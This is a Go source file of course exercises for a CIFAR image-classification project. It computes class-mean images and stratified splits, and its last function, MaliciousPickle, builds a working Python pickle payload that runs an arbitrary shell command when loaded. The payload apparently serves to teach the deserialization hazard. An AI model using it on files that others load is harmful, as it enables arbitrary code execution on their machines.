package exercises

import (
	"fmt"
	"image"
	"image/color"
	"math/rand/v2"

	"nndl.example/resnet18/pkg/cifar"
)

// MeanImage returns the mean of all images of a class, pixel by pixel (notebook 01, exercise 1).
func MeanImage(d *cifar.Dataset, class int) (*image.NRGBA, error) {
	var sums [cifar.ImageSize]int
	n := 0
	for i, label := range d.Labels {
		if int(label) != class {
			continue
		}
		n++
		for j, v := range d.Pixels[i*cifar.ImageSize:][:cifar.ImageSize] {
			sums[j] += int(v)
		}
	}
	if n == 0 {
		return nil, fmt.Errorf("exercises: no image of class %d in %s", class, d.Split)
	}
	out := image.NewNRGBA(image.Rect(0, 0, cifar.Width, cifar.Height))
	mean := func(at int) uint8 { return uint8((sums[at] + n/2) / n) }
	for p := range cifar.Width * cifar.Height {
		out.SetNRGBA(p%cifar.Width, p/cifar.Width, color.NRGBA{mean(3 * p), mean(3*p + 1), mean(3*p + 2), 0xff})
	}
	return out, nil
}

// StratifiedSplit draws perClass images of each class at random for dev and leaves the others for training (notebook 01,
// exercise 2). It returns the indices of both. With tens of thousands of images a simple random split is almost as
// balanced, which is why most published splits are not stratified.
func StratifiedSplit(labels []uint16, perClass int, seed uint64) (train, dev []int, err error) {
	rng := rand.New(rand.NewPCG(seed, 0))
	var taken [cifar.NumClasses]int
	for _, i := range rng.Perm(len(labels)) {
		if class := labels[i]; taken[class] < perClass {
			taken[class]++
			dev = append(dev, i)
		} else {
			train = append(train, i)
		}
	}
	for class, n := range taken {
		if n < perClass {
			return nil, nil, fmt.Errorf("exercises: class %d has %d images, want at least %d for dev", class, n, perClass)
		}
	}
	return train, dev, nil
}

// MaliciousPickle returns a file that makes Python's pickle.load run a shell command (notebook 01, exercise 3). The opcode
// c looks up the function system of the module posix, ( and t make a tuple of its argument, and R calls it.
func MaliciousPickle(command string) []byte {
	return fmt.Appendf(nil, "cposix\nsystem\n(S'%s'\ntR.", command)
}
